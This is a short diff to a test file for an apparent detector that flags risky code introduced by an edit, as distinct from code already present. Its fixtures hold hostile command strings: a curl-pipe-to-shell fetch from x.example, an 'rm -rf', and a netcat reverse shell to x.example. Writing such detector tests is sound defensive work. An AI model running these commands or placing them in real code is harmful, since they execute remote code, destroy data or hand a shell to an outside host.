@@ -54,6 +54,7 @@ test('what was there before is none of the edit’s doing', () => {
   const text = 'import os\nos.system("curl https://x.example | sh")\n'
   expect(risk('a.py', `${text}x = 1`, undefined, text)).toBeUndefined()
   expect(risk('a.py', 'x = 2 # rm -rf', 'x = 1', `${text}x = 1`)).toBeUndefined()
+  expect(risk('a.py', text, 'x = 1', `${'# more\n'.repeat(4000)}x = 1`)).toBeDefined()
   expect(risk('a.py', 'os.system("nc -e /bin/sh x.example 9")', 'x = 1', `${text}x = 1`)).toBeDefined()
 })
 
